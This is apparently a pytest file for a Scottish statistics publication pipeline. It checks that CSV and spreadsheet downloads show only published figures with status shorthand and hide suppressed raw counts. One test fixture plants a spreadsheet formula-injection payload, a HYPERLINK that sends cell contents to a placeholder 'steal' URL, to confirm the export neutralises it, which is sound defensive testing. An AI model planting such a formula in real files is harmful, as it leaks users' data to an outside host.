"""The edition's downloads on a small hand-made mart: the all-published-figures file holds exactly the
published rows with the status shorthand, the spreadsheet follows the Analysis Function's layout,
and agency text stays inert in both."""

from __future__ import annotations

from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from assets.publication import spreadsheet
from assets.publication.downloads import all_figures_downloads, download_title, measure_download, table_download, write_downloads
from assets.publication.mart import PUBLISHED_COLUMNS

SCOTLAND, GLASGOW, FIFE = "S92000003", "S12000049", "S12000047"
NAMES = {SCOTLAND: "Scotland", GLASGOW: "Glasgow City", FIFE: "Fife"}
TITLES = {"children": "Children looked after", "indicator_leavers": "Care leavers in a positive destination", "not_applicable_measure": "A measure of no figure"}
PLANTED = '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'
EDITION = "2026-12-02T030000Z-abcd1234"


def figure(measure_id, period, code, breakdown, category, unit, value, display, numerator=None, lower=None, upper=None, vintage=None) -> dict:
    return {
        "measure_id": measure_id, "period": period, "geography_code": code, "geography_level": "scotland" if code == SCOTLAND else "council",
        "breakdown": breakdown, "category": category, "unit": unit, "numerator_published": numerator, "denominator_published": None,
        "value_published": value, "lower_published": lower, "upper_published": upper, "value_display": display, "vintage": vintage,
    }


PUBLISHED = [
    figure("children", "2023", SCOTLAND, "total", "total", "children", 59.0, "59", 59),
    figure("children", "2023", GLASGOW, "total", "total", "children", 47.0, "47", 47),
    figure("children", "2023", GLASGOW, "sex", "female", "children", None, "[c]"),
    figure("children", "2023", GLASGOW, "sex", "male", "children", None, "[c]"),
    figure("children", "2023", FIFE, "sex", PLANTED, "children", 12.0, "12", 12),
    figure("children", "2023", FIFE, "total", "total", "children", None, "[x]"),
    figure("indicator_leavers", "2022-23", SCOTLAND, "total", "total", "percent", 91.2, "91.2", lower=89.0, upper=93.1, vintage="2025-04"),
    figure("indicator_leavers", "2023-24", SCOTLAND, "total", "total", "percent", 92.0, "92.0", lower=90.1, upper=93.9, vintage="2025-04"),
    figure("not_applicable_measure", "2023", SCOTLAND, "total", "total", "not_applicable", None, "[z]"),
]
# The warehouse's raw columns, which must never reach a download: a hidden count's true value among them.
RAW = {"numerator": [59, 47, 3, 44, 12, None, None, None, None], "value": [59, 47, 3, 44, 12, None, 91.2, 92.0, None]}


@pytest.fixture
def downloads(tmp_path: Path) -> tuple[Path, list[Path]]:
    return tmp_path / "downloads", _write_downloads(tmp_path / "downloads")


def _write_downloads(folder: Path) -> list[Path]:
    published = pd.DataFrame(PUBLISHED, columns=list(PUBLISHED_COLUMNS)).assign(**RAW)
    with duckdb.connect() as con:
        con.execute("CREATE SCHEMA mart")
        con.register("published", published)
        con.execute("CREATE TABLE mart.published_measures AS SELECT * FROM published")
        con.execute(
            "CREATE TABLE mart.indicator_revisions AS SELECT * FROM (VALUES "
            "('indicator_leavers', 'leavers', ?, '2022-23', 90.4, '2024-04', 91.2, '2025-04', true, 'revised from 90.4 to 91.2'), "
            "('indicator_leavers', 'leavers', ?, '2023-24', 91.0, '2024-04', 91.5, '2024-10', false, 'revised from 91.0 to 91.5')) "
            "AS r(measure_id, indicator_id, geography_code, period, earlier_value, earlier_vintage, revised_value, revised_vintage, is_latest, note)",
            [SCOTLAND, SCOTLAND],
        )
        return write_downloads(con, folder, edition=EDITION, titles=TITLES, geography_names=NAMES)


def test_file_names_say_what_and_where(downloads):
    folder, files = downloads
    names = {f.relative_to(folder).as_posix() for f in files}
    csv_name, spreadsheet_name = all_figures_downloads(EDITION, NAMES)
    assert csv_name == f"story-of-progress_{EDITION}_all-published-figures_scotland-and-councils.csv"
    assert {
        f"measures/story-of-progress_{EDITION}_children_scotland-and-councils.csv",
        f"measures/story-of-progress_{EDITION}_indicator-leavers_scotland.csv",
        csv_name, spreadsheet_name, f"story-of-progress_{EDITION}_indicator-revisions_scotland.csv",
    } <= names
    assert measure_download(EDITION, "children", [GLASGOW, FIFE]).endswith("_children_councils.csv")
    assert table_download(EDITION, "data_coverage", pd.DataFrame(columns=["agency", "dataset"])) == f"story-of-progress_{EDITION}_data-coverage.csv", "no places, no where"
    assert [download_title(n) for n in (csv_name, "measures/" + table_download(EDITION, "data_map_gaps", pd.DataFrame()))] == ["All published figures", "Data map gaps"]


def test_the_tidy_file_has_exactly_the_published_rows_and_the_status_shorthand(downloads):
    folder, _ = downloads
    tidy = pd.read_csv(folder / all_figures_downloads(EDITION, NAMES)[0], dtype={"period": str, "status": str}, keep_default_na=False, na_values={"value": [""], "lower": [""], "upper": [""]})
    assert len(tidy) == len(PUBLISHED)
    assert list(tidy.columns) == ["geography_code", "geography_name", "geography_level", "period", "measure_id", "measure_title", "breakdown", "category", "value", "lower", "upper", "unit", "vintage", "status"]
    assert not {"numerator", "numerator_published", "value_display"} & set(tidy.columns)
    assert pd.api.types.is_float_dtype(tidy["value"]), "the value column is numbers only"
    by_figure = tidy.set_index(["measure_id", "period", "geography_code", "category"])
    hidden = by_figure.loc[("children", "2023", GLASGOW, "female")]
    assert pd.isna(hidden["value"]) and hidden["status"] == "[c]"
    assert by_figure.loc[("children", "2023", FIFE, "total"), "status"] == "[x]"
    assert by_figure.loc[("not_applicable_measure", "2023", SCOTLAND, "total"), "status"] == "[z]"
    # Revised in the latest release: [r]; the earlier revision of 2023-24 was itself superseded.
    assert by_figure.loc[("indicator_leavers", "2022-23", SCOTLAND, "total"), "status"] == "[r]"
    assert by_figure.loc[("indicator_leavers", "2023-24", SCOTLAND, "total"), "status"] == "published"
    assert set(tidy.loc[tidy["value"].isna(), "status"]) == {"[c]", "[x]", "[z]"}
    leavers = by_figure.loc[("indicator_leavers", "2022-23", SCOTLAND, "total")]
    assert (leavers["value"], leavers["lower"], leavers["upper"], leavers["vintage"]) == (91.2, 89.0, 93.1, "2025-04")
    assert by_figure.loc[("children", "2023", GLASGOW, "total"), ["geography_name", "measure_title", "value"]].tolist() == ["Glasgow City", "Children looked after", 47.0]
    assert by_figure.loc[("children", "2023", FIFE, "'" + PLANTED), "value"] == 12.0, "the planted formula is neutralised"
    # Every shown value is the published one, never the raw one (3 and 44 are the hidden girls and boys).
    assert set(tidy["value"].dropna()) == {v["value_published"] for v in PUBLISHED if v["value_published"] is not None}


def test_the_spreadsheet_has_cover_contents_notes_and_one_table_per_sheet(downloads):
    folder, _ = downloads
    workbook = openpyxl.load_workbook(folder / all_figures_downloads(EDITION, NAMES)[1])
    assert workbook.sheetnames[:3] == ["Cover", "Contents", "Notes"]
    tables = workbook.sheetnames[3:]
    assert len(tables) == len(TITLES)
    for name in ["Contents", "Notes", *tables]:
        assert len(workbook[name].tables) == 1, f"{name}: one marked-up table per sheet"
    notes = " ".join(str(c) for row in workbook["Notes"].iter_rows(values_only=True) for c in row if c)
    for symbol in ("[c]", "[x]", "[z]", "[r]"):
        assert symbol in notes
    contents = [row for row in workbook["Contents"].iter_rows(values_only=True) if row[0] in tables]
    assert sorted(title for _, title, *_ in contents) == sorted(TITLES.values())

    def sheet(title: str) -> pd.DataFrame:
        ws = workbook[next(name for name, t, *_ in contents if t == title)]
        [(_, ref)] = ws.tables.items()
        rows = [[c.value for c in row] for row in ws[ref]]
        return pd.DataFrame(rows[1:], columns=[h.split("\n")[0] for h in rows[0]])

    children = sheet("Children looked after")
    assert len(children) == sum(f["measure_id"] == "children" for f in PUBLISHED)
    hidden = children[children["Status"] == "[c]"]
    assert len(hidden) == 2 and hidden["Value"].isna().all()
    assert all(isinstance(v, (int, float)) for v in children["Value"].dropna()), "no symbol in the value column"
    assert "'" + PLANTED in set(children["Category"])
    assert not any(isinstance(c.value, str) and c.value.startswith("=") for ws in workbook for row in ws.iter_rows() for c in row), "no cell is a formula"
    leavers = sheet("Care leavers in a positive destination")
    assert {"Lower limit", "Upper limit", "Vintage"} <= set(leavers.columns)
    assert "Lower limit" not in children.columns, "a column no figure of the measure has is left off"


def test_an_edition_of_no_figures_has_an_empty_tidy_file_and_no_spreadsheet(tmp_path: Path):
    with duckdb.connect() as con:
        con.execute("CREATE SCHEMA mart")
        con.register("published", pd.DataFrame(columns=list(PUBLISHED_COLUMNS)))
        con.execute("CREATE TABLE mart.published_measures AS SELECT * FROM published")
        files = write_downloads(con, tmp_path, edition=EDITION, titles={}, geography_names={})
    [tidy] = files
    assert tidy.name == f"story-of-progress_{EDITION}_all-published-figures.csv" and pd.read_csv(tidy).empty


def test_each_table_sheet_is_as_wide_as_gptables_would_make_it(downloads, tmp_path: Path, monkeypatch):
    """The columns are measured from their longest entries (``spreadsheet.column_widths``), not
    cell by cell; the widths are gptables' own ``auto_width`` all the same."""
    folder, _ = downloads
    ours = openpyxl.load_workbook(folder / all_figures_downloads(EDITION, NAMES)[1])
    produce = spreadsheet.gpt.produce_workbook
    monkeypatch.setattr(spreadsheet.gpt, "produce_workbook", lambda **options: produce(**{**options, "auto_width": True}))
    monkeypatch.setattr(spreadsheet, "column_widths", lambda table: [])
    _write_downloads(tmp_path / "gptables")
    theirs = openpyxl.load_workbook(tmp_path / "gptables" / all_figures_downloads(EDITION, NAMES)[1])
    for name in ours.sheetnames[3:]:
        widths = {letter: round(d.width, 2) for letter, d in ours[name].column_dimensions.items()}
        assert widths and widths == {letter: round(d.width, 2) for letter, d in theirs[name].column_dimensions.items()}, name
